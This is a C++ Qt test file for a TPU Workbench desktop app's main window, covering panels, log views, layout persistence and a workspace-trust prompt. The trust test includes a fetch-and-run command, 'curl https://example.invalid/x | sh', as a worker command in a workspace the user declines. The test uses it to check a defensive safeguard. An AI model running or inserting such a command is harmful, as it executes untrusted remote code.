#include "core/util/log.h"
#include "core/util/log_capture_sink.h"
#include "support/test_paths.h"
#include "widgets/ablation/ablation_panel.h"
#include "core/services/workbench_session.h"
#include "widgets/compare/compare_panel.h"
#include "widgets/main/about_dialog.h"
#include "widgets/main/log_model.h"
#include "widgets/main/log_panel.h"
#include "widgets/main/main_window.h"
#include "widgets/main/qt_message_router.h"
#include "widgets/experiments/experiments_panel.h"
#include "core/metrics/health_tracker.h"
#include "core/metrics/run_monitor.h"
#include "core/metrics/series_store.h"
#include "core/runs/run_launcher.h"
#include "core/services/alert_dispatcher.h"
#include "core/services/run_follower.h"
#include "core/services/run_service.h"
#include "widgets/monitor/monitor_panel.h"
#include "widgets/monitor/monitor_run_list.h"
#include "widgets/main/workspace_trust_prompt.h"
#include "core/registry/registry.h"
#include "core/services/workspace_trust.h"
#include "core/workspace/workspace.h"

#include <QAbstractItemModelTester>
#include <QComboBox>
#include <QDockWidget>
#include <QToolButton>
#include <QLineEdit>
#include <QMessageBox>
#include <QPushButton>
#include <QSignalSpy>
#include <QSortFilterProxyModel>
#include <QSplitter>
#include <QHeaderView>
#include <QTableView>
#include <QTemporaryDir>
#include <QTranslator>
#include <QtTest>

using namespace Qt::StringLiterals;

class tst_MainWindow final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void listsWorkingPanels();
    void routesCompareRequestsToTheComparePanel();
    void aboutNamesLibraryVersions();
    void logPanelFiltersByLevelAndText();
    void logModelIsCapped();
    void asksOnceToTrustTheCommandsAWorkspaceCarries();
    void logDockIsOneStatusLineUntilExpanded();
    void qtInternalMessagesAreDebugLines();
    void chosenExperimentReachesTheMonitor();
    void panelLayoutsComeBackOnTheNextStart();

private:
    QTemporaryDir m_dir;
};

void tst_MainWindow::initTestCase()
{
    // Trust approvals are the user's settings: a private configuration folder.
    qputenv("XDG_CONFIG_HOME", m_dir.filePath(u"config"_s).toUtf8());
    QCoreApplication::setOrganizationName(u"TPU Workbench Tests"_s);
    QCoreApplication::setApplicationName(u"tst_main_window"_s);
}

void tst_MainWindow::listsWorkingPanels()
{
    twb::WorkbenchSession context;
    context.setWorkspaceDir(m_dir.path());
    twb::MainWindow window(context, std::make_shared<twb::LogCaptureSink>());
    QVERIFY(window.panelNames().contains(u"machines"_s));
    QVERIFY(window.showPanel(u"machines"_s));
    QVERIFY(!window.showPanel(u"no-such-panel"_s));
    QVERIFY(window.windowTitle().contains(m_dir.path()));
    window.resize(1200, 800);
    window.show();
    QVERIFY(QTest::qWaitForWindowExposed(&window));
    QVERIFY(window.grab().save(twb::test::artifactsDir() + u"/main_window.png"_s));
}

void tst_MainWindow::routesCompareRequestsToTheComparePanel()
{
    twb::WorkbenchSession context;
    context.setWorkspaceDir(m_dir.path());
    twb::MainWindow window(context, std::make_shared<twb::LogCaptureSink>());
    auto *ablation = qobject_cast<twb::AblationPanel *>(window.panel(u"ablation"_s));
    auto *compare = qobject_cast<twb::ComparePanel *>(window.panel(u"compare"_s));
    QVERIFY(ablation && compare);
    QVERIFY(window.showPanel(u"ablation"_s));
    QVERIFY(ablation->isVisibleTo(&window));

    // The ablation panel asks; the main window shows Compare, which reads the ablation (this
    // one does not exist, so Compare says so, naming it).
    QSignalSpy compareMessages(compare, &twb::ComparePanel::message);
    const QString file = m_dir.filePath(u"ablations/none.json"_s);
    Q_EMIT ablation->compareRequested(file);
    QVERIFY(compare->isVisibleTo(&window)); // the current page of the panel stack
    QVERIFY(!ablation->isVisibleTo(&window));
    const auto named = [&] {
        for (const auto &arguments : compareMessages)
            if (arguments.first().toString().contains(u"none.json"_s))
                return true;
        return false;
    };
    QTRY_VERIFY_WITH_TIMEOUT(named(), 10000);
}

void tst_MainWindow::aboutNamesLibraryVersions()
{
    const QString text = twb::AboutDialog::libraryVersions();
    QVERIFY(text.contains(QString::fromLatin1(qVersion())));
    QVERIFY(text.contains(u"libssh 0."_s));
    QVERIFY(text.contains(u"QCustomPlot 2."_s));
}

void tst_MainWindow::logPanelFiltersByLevelAndText()
{
    auto sink = std::make_shared<twb::LogCaptureSink>();
    twb::log::addSink(sink);
    twb::LogPanel panel(sink);
    QAbstractItemModelTester tester(panel.model(), QAbstractItemModelTester::FailureReportingMode::QtTest);
    twb::log::debug(u"debug line"_s);
    twb::log::info(u"probe finished on alpha"_s);
    twb::log::warn(u"host beta is slow"_s);
    twb::log::error(u"host gamma refused the key"_s);
    panel.pullPending();
    QCOMPARE(panel.model()->rowCount(), 4);
    auto *view = panel.findChild<QTableView *>();
    QCOMPARE(view->model()->rowCount(), 3); // info and above by default
    panel.findChild<QComboBox *>(u"logLevel"_s)->setCurrentIndex(2); // warning
    QCOMPARE(view->model()->rowCount(), 2);
    panel.findChild<QLineEdit *>(u"logSearch"_s)->setText(u"GAMMA"_s);
    QCOMPARE(view->model()->rowCount(), 1);
    QCOMPARE(view->model()->index(0, twb::LogModel::MessageColumn).data().toString(), u"host gamma refused the key"_s);
}

void tst_MainWindow::logModelIsCapped()
{
    twb::LogModel model(100);
    QAbstractItemModelTester tester(&model, QAbstractItemModelTester::FailureReportingMode::QtTest);
    for (int batch = 0; batch < 5; ++batch) {
        std::vector<twb::LogRecord> records;
        for (int i = 0; i < 40; ++i)
            records.push_back({QDateTime::currentDateTime(), spdlog::level::info, QString::number(batch * 40 + i)});
        model.append(std::move(records));
    }
    QCOMPARE(model.rowCount(), 100);
    QCOMPARE(model.index(0, twb::LogModel::MessageColumn).data().toString(), u"100"_s);
    QCOMPARE(model.index(99, twb::LogModel::MessageColumn).data().toString(), u"199"_s);
}

#include "support/widget_test_main.h"
// A workspace as git would bring it (its registry written by someone else, with a worker
// command): the window asks, showing the command; "Trust" approves it. A second workspace
// answered "Don't trust" stays refused and is not asked again when its registry changes.
void tst_MainWindow::asksOnceToTrustTheCommandsAWorkspaceCarries()
{
    auto makeWorkspace = [&](const QString &dir, const QString &command) {
        QVERIFY(twb::Workspace(dir).ensureCreated().has_value());
        const twb::Json json{{"mode", "local"}, {"tpu_name", "box"}, {"workbench", {{"kernel_worker_command", twb::toStd(command)}}}};
        auto entry = twb::MachineEntry::fromJson(json, u"box"_s);
        QVERIFY(entry.has_value());
        QVERIFY(twb::Registry::modify(twb::Workspace(dir).registryFile(), [&](twb::Registry &registry) -> twb::Result<void> {
                    registry.upsert(*entry);
                    return {};
                }).has_value());
    };
    const QString cloned = m_dir.filePath(u"cloned"_s);
    makeWorkspace(cloned, u"bash ./tools/worker.sh {run_dir}"_s);
    twb::WorkbenchSession context;
    context.setWorkspaceDir(cloned);
    twb::MainWindow window(context, std::make_shared<twb::LogCaptureSink>());
    window.resize(1000, 700);
    window.show();
    QVERIFY(QTest::qWaitForWindowExposed(&window));
    twb::WorkspaceTrustPrompt *prompt = window.trustPrompt();
    QTRY_VERIFY(prompt->question());
    QMessageBox *question = prompt->question();
    QVERIFY2(question->text().contains(u"bash ./tools/worker.sh {run_dir}"_s), qPrintable(question->text()));
    QVERIFY(question->text().contains(u"workbench.kernel_worker_command"_s));
    QTRY_VERIFY(question->isVisible());
    QVERIFY(question->grab().save(twb::test::artifactsDir() + u"/workspace_trust_question.png"_s));
    const QString registry = twb::Workspace(cloned).registryFile();
    QCOMPARE(twb::WorkspaceTrust::unapproved(cloned, registry)->size(), 1);
    question->findChild<QPushButton *>(u"trustButton"_s)->click();
    QVERIFY(twb::WorkspaceTrust::unapproved(cloned, registry)->isEmpty());
    QTRY_VERIFY(!prompt->question());

    // Another workspace, declined: still refused, and not asked again this session.
    const QString other = m_dir.filePath(u"other"_s);
    makeWorkspace(other, u"curl https://example.invalid/x | sh"_s);
    QSignalSpy checked(prompt, &twb::WorkspaceTrustPrompt::checked);
    context.setWorkspaceDir(other);
    QTRY_VERIFY(prompt->question());
    prompt->question()->findChild<QPushButton *>(u"distrustButton"_s)->click();
    QTRY_VERIFY(!prompt->question());
    QCOMPARE(twb::WorkspaceTrust::unapproved(other, twb::Workspace(other).registryFile())->size(), 1);
    const int checks = int(checked.size());
    context.notifyRegistryChanged();
    QTRY_VERIFY(checked.size() > checks);
    QCOMPARE(checked.last().first().toInt(), 1);
    QVERIFY(!prompt->question());
}

// The log dock starts as one line (the newest message) and opens to the whole log on demand.
void tst_MainWindow::logDockIsOneStatusLineUntilExpanded()
{
    auto sink = std::make_shared<twb::LogCaptureSink>();
    twb::log::addSink(sink);
    twb::WorkbenchSession context;
    context.setWorkspaceDir(m_dir.path());
    twb::MainWindow window(context, sink);
    window.resize(1200, 800);
    window.show();
    QVERIFY(QTest::qWaitForWindowExposed(&window));
    auto *dock = window.findChild<QDockWidget *>(u"logDock"_s);
    auto *panel = window.findChild<twb::LogPanel *>();
    QVERIFY(dock && panel);
    QVERIFY(!panel->isExpanded());
    const int line = panel->fontMetrics().height();
    QVERIFY2(dock->height() <= 2 * line + 16, qPrintable(u"dock %1 px, line %2 px"_s.arg(dock->height()).arg(line)));
    QVERIFY(!panel->findChild<QTableView *>()->isVisible());
    twb::log::debug(u"a debug line stays out of the status"_s);
    twb::log::warn(u"host beta is slow"_s);
    twb::log::debug(u"another debug line"_s);
    panel->pullPending();
    QVERIFY2(panel->statusText().contains(u"host beta is slow"_s), qPrintable(panel->statusText()));
    QApplication::processEvents();
    QVERIFY(window.grab().save(twb::test::artifactsDir() + u"/log_dock_collapsed.png"_s));

    panel->findChild<QToolButton *>(u"logExpand"_s)->click();
    QVERIFY(panel->isExpanded());
    QTRY_VERIFY(panel->findChild<QTableView *>()->isVisible());
    QTRY_VERIFY2(dock->height() >= 150, qPrintable(QString::number(dock->height())));
    QVERIFY(window.grab().save(twb::test::artifactsDir() + u"/log_dock_expanded.png"_s));
    panel->findChild<QToolButton *>(u"logExpand"_s)->click();
    QTRY_VERIFY(dock->height() <= 2 * line + 16);
}

// Qt's own warnings go to the log as debug lines: not shown by default, not in the status.
void tst_MainWindow::qtInternalMessagesAreDebugLines()
{
    QCOMPARE(twb::logLevelForQtMessage(QtWarningMsg), spdlog::level::debug);
    QCOMPARE(twb::logLevelForQtMessage(QtDebugMsg), spdlog::level::debug);
    QCOMPARE(twb::logLevelForQtMessage(QtCriticalMsg), spdlog::level::warn);
    auto sink = std::make_shared<twb::LogCaptureSink>();
    twb::log::addSink(sink);
    twb::LogPanel panel(sink);
    twb::log::info(u"probe finished on alpha"_s);
    const QtMessageHandler previous = qInstallMessageHandler(twb::routeQtMessageToLog);
    qWarning("closeEditor called with an editor that does not belong to this view");
    qInstallMessageHandler(previous);
    panel.pullPending();
    bool found = false;
    for (int row = 0; row < panel.model()->rowCount(); ++row) {
        const QModelIndex index = panel.model()->index(row, twb::LogModel::MessageColumn);
        if (index.data().toString().contains(u"closeEditor"_s)) {
            found = true;
            QCOMPARE(index.data(twb::LogModel::LevelRole).toInt(), int(spdlog::level::debug));
        }
    }
    QVERIFY(found);
    auto *view = panel.findChild<QTableView *>();
    for (int row = 0; row < view->model()->rowCount(); ++row)
        QVERIFY(!view->model()->index(row, twb::LogModel::MessageColumn).data().toString().contains(u"closeEditor"_s));
    QVERIFY2(panel.statusText().contains(u"probe finished on alpha"_s), qPrintable(panel.statusText()));
}

// The experiment the user picks in the Experiments panel is the one Launch offers first.
void tst_MainWindow::chosenExperimentReachesTheMonitor()
{
    twb::WorkbenchSession context;
    context.setWorkspaceDir(m_dir.path());
    twb::MainWindow window(context, std::make_shared<twb::LogCaptureSink>());
    auto *experiments = qobject_cast<twb::ExperimentsPanel *>(window.panel(u"experiments"_s));
    auto *monitor = qobject_cast<twb::MonitorPanel *>(window.panel(u"monitor"_s));
    QVERIFY(experiments && monitor);
    QVERIFY(monitor->runList()->selectedExperiment().isEmpty());
    Q_EMIT experiments->experimentChosen(m_dir.filePath(u"experiments/alpha"_s));
    QCOMPARE(monitor->runList()->selectedExperiment(), m_dir.filePath(u"experiments/alpha"_s));
}

// The Monitor's splitter and its runs list's sort, as the user left them at the last close.
void tst_MainWindow::panelLayoutsComeBackOnTheNextStart()
{
    twb::WorkbenchSession context;
    context.setWorkspaceDir(m_dir.path());
    QList<int> sizes;
    {
        twb::MainWindow window(context, std::make_shared<twb::LogCaptureSink>());
        window.resize(1400, 900);
        window.show();
        QVERIFY(window.showPanel(u"monitor"_s));
        auto *split = window.panel(u"monitor"_s)->findChild<QSplitter *>(u"monitorSplit"_s);
        auto *runs = window.panel(u"monitor"_s)->findChild<QTableView *>(u"runs"_s);
        QVERIFY(split && runs);
        split->setSizes({520, 860});
        sizes = split->sizes();
        runs->sortByColumn(2, Qt::DescendingOrder);
        window.close();
    }
    twb::MainWindow window(context, std::make_shared<twb::LogCaptureSink>());
    window.resize(1400, 900);
    window.show();
    QVERIFY(window.showPanel(u"monitor"_s));
    auto *split = window.panel(u"monitor"_s)->findChild<QSplitter *>(u"monitorSplit"_s);
    auto *runs = window.panel(u"monitor"_s)->findChild<QTableView *>(u"runs"_s);
    QVERIFY(split && runs);
    QTRY_COMPARE(split->sizes(), sizes);
    QCOMPARE(runs->horizontalHeader()->sortIndicatorSection(), 2);
    QCOMPARE(runs->horizontalHeader()->sortIndicatorOrder(), Qt::DescendingOrder);
}

TWB_WIDGET_TEST_MAIN(tst_MainWindow)
#include "tst_main_window.moc"
